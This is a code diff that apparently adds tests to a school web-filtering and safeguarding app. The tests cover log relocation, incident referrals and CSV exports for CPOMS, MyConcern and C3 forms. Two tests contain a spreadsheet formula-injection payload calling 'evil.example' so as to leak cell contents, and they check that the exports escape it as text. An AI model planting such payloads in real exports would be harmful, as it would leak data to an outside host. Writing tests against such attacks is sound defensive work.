@@ -311,3 +311,104 @@ def test_the_pupil_history_and_its_csv(app: object, config: Path) -> None:
         assert (
             client(app, config, name).get("/pupil.csv", params={"who": "p.one"}).status_code == 403
         )
+
+
+def test_the_timeline_reads_the_access_log_where_the_settings_put_it(
+    app: object, config: Path, tmp_path: Path
+) -> None:
+    """``access_log:`` in schoolgate.yaml moves the log: the incident page reads that file and
+    its rotated copy, and not access.log in the data folder."""
+    data = tmp_path / "var" / "access.log"
+    lines = data.read_text(encoding="utf-8").splitlines()
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    # Rotated the night before the hits: the page before them is in the rotated file.
+    (logs / "custom.log.1").write_text("\n".join(lines[:3]) + "\n", encoding="utf-8")
+    (logs / "custom.log").write_text("\n".join(lines[3:]) + "\n", encoding="utf-8")
+    data.write_text(line(T0 - timedelta(minutes=5), "p.one", "decoy.example") + "\n")
+    dsl = client(app, config, "a.dsl")
+    before = dsl.get("/incidents/1").text  # the default path: the data folder's access.log
+    assert "decoy.example" in before
+    assert "homework.example/maths" not in before
+    settings = config / "schoolgate.yaml"
+    settings.write_text(settings.read_text() + "access_log: ../logs/custom.log\n")
+    page = dsl.get("/incidents/1").text
+    assert "homework.example/maths" in page  # from custom.log.1
+    assert "news.example/story" in page  # from custom.log
+    assert "decoy.example" not in page
+
+
+def test_c2_records_where_the_incident_was_referred(app: object, config: Path) -> None:
+    """The C2 form's ticked referrals are recorded and shown, on the page and the print."""
+    dsl = client(app, config, "a.dsl")
+    token = csrf_of(dsl.get("/incidents/3").text)
+    form: dict[str, str | list[str]] = {**c2(token), "referred_to": ["police", "iwf_ceop"]}
+    response = dsl.post("/incidents/3/review", data=form, follow_redirects=False)
+    assert response.status_code == 303
+    page = dsl.get("/incidents/3").text
+    assert "Referred outside the school to</dt><dd>the police; the IWF or CEOP</dd>" in page
+    printed = dsl.get("/incidents/3/c2.pdf")
+    assert printed.status_code == 200
+    refused = dsl.post("/incidents/1/review", data={**c2(token), "referred_to": "the moon"})
+    assert refused.status_code == 400
+    assert "referred to: unknown" in refused.text
+
+
+@pytest.mark.parametrize("layout", ["cpoms", "myconcern"])
+def test_the_safeguarding_system_exports(
+    app: object, config: Path, tmp_path: Path, layout: str
+) -> None:
+    """CPOMS and MyConcern CSVs: their columns, one row per incident, no IWF address, and a
+    pupil's search that starts like a formula is written as text; DSL roles only."""
+    from proxy.incidents.safeguarding_csv import LAYOUTS
+
+    engine = make_engine(f"sqlite:///{tmp_path / 'store.db'}")
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with session(engine) as s:
+        incidents.record_incident(
+            s,
+            concerning_search(PUPIL, "google", attack, "self_harm", "cut", T0 - timedelta(hours=1)),
+        )
+    dsl = client(app, config, "a.dsl")
+    everything = dsl.get(f"/incidents/{layout}.csv")
+    assert everything.status_code == 200
+    assert everything.headers["content-type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(everything.text)))
+    assert tuple(rows[0]) == LAYOUTS[layout]
+    assert len(rows) == 1 + 5
+    assert "iwf-test" not in everything.text
+    for r in rows[1:]:
+        for cell in r:
+            assert not cell.startswith(("=", "+", "-", "@")), cell
+    who = [r[0] for r in rows[1:]]
+    assert "shared address 10.10.0.99 (nobody signed in: not one person)" in who
+    searched = next(r for r in rows[1:] if "HYPERLINK" in r[4])
+    assert attack in searched[4]  # the words, kept, inside a cell that starts with text
+    illegal = dsl.get(f"/incidents/{layout}.csv", params={"id": "3"})
+    rows = list(csv.reader(io.StringIO(illegal.text)))
+    assert len(rows) == 2
+    assert "matched the IWF list" in rows[1][4]
+    assert "iwf-test" not in illegal.text
+    assert rows[1][0] == "p.one"
+    assert rows[1][8].startswith("Schoolgate incident #3")
+    assert dsl.get("/incidents/other.csv").status_code == 404
+    for name in ("it.tech", "head.teacher"):
+        assert client(app, config, name).get(f"/incidents/{layout}.csv").status_code == 403
+
+
+def test_a_formula_in_a_review_is_text_in_the_c3_export(
+    app: object, config: Path, tmp_path: Path
+) -> None:
+    """The console's C3 CSV writes free text that starts like a formula as text."""
+    engine = make_engine(f"sqlite:///{tmp_path / 'store.db'}")
+    form = incidents.ReviewForm(
+        first_reviewer="a.dsl", first_position="DSL", second_reviewer="b.deputy",
+        second_position="Deputy", computer="laptop", reason="r", conclusion="c",
+        action_taken='=HYPERLINK("http://evil.example/","x")',
+    )  # fmt: skip
+    with session(engine) as s:
+        incidents.review(s, 1, form, NOW)
+    exported = client(app, config, "a.dsl").get("/incidents/c3.csv").text
+    cells = [c for r in csv.reader(io.StringIO(exported)) for c in r]
+    assert '\'=HYPERLINK("http://evil.example/","x")' in cells
+    assert not [c for c in cells if c.startswith("=")]
